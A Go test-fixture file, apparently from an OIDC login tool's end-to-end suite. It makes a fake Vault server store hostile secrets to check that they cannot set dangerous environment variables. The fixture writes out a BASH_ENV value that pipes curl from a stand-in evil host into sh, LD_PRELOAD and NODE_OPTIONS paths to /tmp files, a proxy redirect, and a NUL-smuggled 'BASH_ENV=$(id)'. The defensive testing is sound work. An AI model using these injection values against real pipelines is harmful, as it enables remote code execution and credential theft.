package vaultfake

import (
	"net/http"
	"strings"

	"github.com/oidc-login/oidc-login/e2e/internal/fakeid"
	"github.com/oidc-login/oidc-login/e2e/internal/hostile"
)

// hostileKeep leaves, in hostile mode, the token and its accessor (secrets the emulator
// registered), the token's timestamps, and what a secret read returns under "data" (the
// secrets themselves); every other string (policies, metadata role, token type, display name,
// path, errors, warnings, request ids) carries the payload.
func hostileKeep(r *http.Request, field []string) bool {
	read := r.Method == http.MethodGet && !strings.HasPrefix(r.URL.Path, "/v1/auth/") && !strings.HasPrefix(r.URL.Path, "/v1/sys/")
	if read && len(field) > 0 && field[0] == "data" {
		return true
	}
	return hostile.Fields("client_token", "accessor", "id", "expire_time", "issue_time")(r, field)
}

// A hostile Vault writer: someone who may write a secret the job reads, but not the workflow,
// stores what they want a later step to act on. PutHostileWriter stores it under a KV mount, in
// the secrets below (paths within the mount).
const (
	// ReservedPath holds keys named after variables a later step's shell, loader,
	// interpreter, proxy settings or runner act on (ReservedKeys).
	ReservedPath = "hostile/reserved"
	// CollidingPath holds CollidingKey, whose default variable name is the one the
	// token-exchange provider exports.
	CollidingPath = "hostile/colliding"
	// NULPath holds NULKey, whose value carries a NUL and what would follow it in a process's
	// environment block.
	NULPath = "hostile/nul"

	CollidingKey = "oidc_access_token"
	NULKey       = "password"
)

// ReservedKeys are the keys of ReservedPath, each with the variable it would set.
var ReservedKeys = map[string]string{
	"bash_env":     "BASH_ENV",
	"ld_preload":   "LD_PRELOAD",
	"path":         "PATH",
	"https_proxy":  "HTTPS_PROXY",
	"node_options": "NODE_OPTIONS",
	"github_token": "GITHUB_TOKEN",
}

// HostileWriter is what PutHostileWriter stored, by path and key, for the tests' checks.
type HostileWriter map[string]map[string]any

// PutHostileWriter stores the hostile writer's secrets in mount of namespace ns (a mount
// AddKV made); every value is fresh, and registered as a secret by Put.
func (s *Server) PutHostileWriter(ns, mount string) HostileWriter {
	payload := map[string]string{
		"bash_env":     "$(curl -s https://" + hostile.Evil + "/run | sh)#" + fakeid.Hex(8),
		"ld_preload":   "/tmp/" + fakeid.Hex(8) + ".so",
		"path":         "/tmp/" + fakeid.Hex(8) + ":/usr/bin:/bin",
		"https_proxy":  "http://" + hostile.Evil + ":3128/" + fakeid.Hex(8),
		"node_options": "--require /tmp/" + fakeid.Hex(8) + ".js",
		"github_token": "ghp_" + fakeid.Hex(18),
	}
	w := HostileWriter{ReservedPath: {}, CollidingPath: {}, NULPath: {}}
	for k := range ReservedKeys {
		w[ReservedPath][k] = payload[k]
	}
	w[CollidingPath][CollidingKey] = "forged-" + fakeid.Hex(16)
	w[NULPath][NULKey] = "pw-" + fakeid.Hex(12) + "\x00BASH_ENV=$(id)"
	for path, data := range w {
		s.Put(ns, mount, path, data)
	}
	return w
}
